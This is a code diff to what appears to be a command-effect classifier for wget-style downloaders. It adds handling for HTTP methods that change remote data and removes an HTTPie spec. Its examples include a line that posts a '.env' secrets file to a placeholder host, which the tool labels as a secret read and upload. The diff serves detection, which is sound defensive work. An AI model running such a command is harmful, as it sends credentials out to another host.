@@ -1,10 +1,9 @@
-/** wget and HTTPie. */
+/** wget, and what downloads as it does. */
 import type { EffectDraft } from '../../../../effects/effect';
-import { rest } from '../../arguments';
 import { type Call, type ProgramSpec, together } from '../../program';
 import type { Run, Word } from '../../spec';
-import { reads, sourceOfFile, sourceOfStream, sourceOfWord, when, writes } from '../../stating';
-import { carriesData, fetches, network, uploads, writtenByName } from './requests';
+import { reads, sourceOfFile, sourceOfWord, when, writes } from '../../stating';
+import { carriesData, changes, fetches, network, uploads, writtenByName } from './requests';
 
 export const wget: ProgramSpec = {
   names: 'wget wget2 aria2c axel',
@@ -14,12 +13,10 @@ export const wget: ProgramSpec = {
   does(call) {
     const urls = call.operands;
     const files = call.words('--post-file', '--body-file');
+    const bodies = call.words('--post-data', '--body-data');
     const sources = [
       ...files.map((word) => sourceOfFile(call, word)),
-      ...[
-        ...call.words('--post-data', '--body-data'),
-        ...[...call.words('--header', '-U', '--referer'), ...urls].filter(carriesData),
-      ].map(sourceOfWord),
+      ...[...bodies, ...[...call.words('--header', '-U', '--referer'), ...urls].filter(carriesData)].map(sourceOfWord),
     ];
     const named = call.words('-O');
     const directory = call.words('-P').at(-1);
@@ -32,6 +29,7 @@ export const wget: ProgramSpec = {
       { effects: [...fetches(call, urls), ...fetchesListed(call)], runs, output: network },
       reads(call, [...files, ...call.words('-i')], { shown: false }),
       uploads(urls, sources),
+      changes(methodOf(call), urls, files.length + bodies.length > 0),
       call.has('--spider') === true
         ? []
         : writes(
@@ -48,10 +46,16 @@ export const wget: ProgramSpec = {
       'wget -P build https://example.com/a': 'net.fetch + fs.write{path=/repo/build/a}',
       'wget --post-file=.env https://x.test':
         'net.fetch + fs.read + secret.read + net.upload{source=secret} + fs.write',
+      'wget --method=DELETE -qO- https://api.acme.test/users/1': 'net.fetch + saas.change{op=delete}',
     },
-    inert: ['wget --help'],
+    inert: ['wget --version'],
   },
 };
+
+function methodOf(call: Call): string | null | undefined {
+  const method = call.value('--method');
+  return typeof method === 'string' ? method.toUpperCase() : method === undefined ? undefined : null;
+}
 
 /** `-i FILE`: addresses that stand in a file, and names that follow from them. */
 function fetchesListed(call: Call): EffectDraft[] {
@@ -68,42 +72,3 @@ function within(directory: Word, name: Word): Word {
   const known = typeof directory.value === 'string' && typeof name.value === 'string';
   return { ...name, value: known ? `${directory.value}/${name.value}` : directory.value };
 }
-
-const methods = /^(GET|POST|PUT|PATCH|DELETE|HEAD|OPTIONS)$/i;
-
-export const httpie: ProgramSpec = {
-  names: 'http https xh xhs',
-  options:
-    '-a,--auth=A -A=T -o,--output=FILE -p,--print=W -s,--style=S --session=N --timeout=S -d,--download -f,--form -j,--json -v -h -b -F -c --verify=V --pretty=P --proxy=P --check-status --ignore-stdin --raw=D --multipart',
-  does(call) {
-    const [first, ...others] = call.operands;
-    const method =
-      typeof first?.value === 'string' && methods.test(first.value) ? first.value.toUpperCase() : undefined;
-    const urls = method ? others.slice(0, 1) : call.operands.slice(0, 1);
-    const items = method ? others.slice(1) : others;
-    const sends = items.filter(
-      (word) => typeof word.value !== 'string' || (/[=@]/.test(word.value) && !/==/.test(word.value)),
-    );
-    const sources = sends.map((word) =>
-      /@/.test(String(word.value))
-        ? sourceOfFile(call, rest(word, String(word.value).indexOf('@') + 1))
-        : sourceOfWord(word),
-    );
-    const piped = call.invocation.stdin && method !== 'GET' ? [sourceOfStream(call.invocation.stdin)] : [];
-    return {
-      effects: [
-        ...fetches(call, urls),
-        ...uploads(urls, [...sources, ...piped]),
-        ...when(method === 'DELETE', { kind: 'saas.change', category: 'other', op: 'delete' }),
-        ...writes(call, call.words('-o'), 'overwrite'),
-      ],
-      output: network,
-    };
-  },
-  examples: {
-    yields: {
-      'http POST x.test a=1': 'net.fetch{host=x.test} + net.upload{source=literal}',
-      'http x.test/list': 'net.fetch',
-    },
-  },
-};
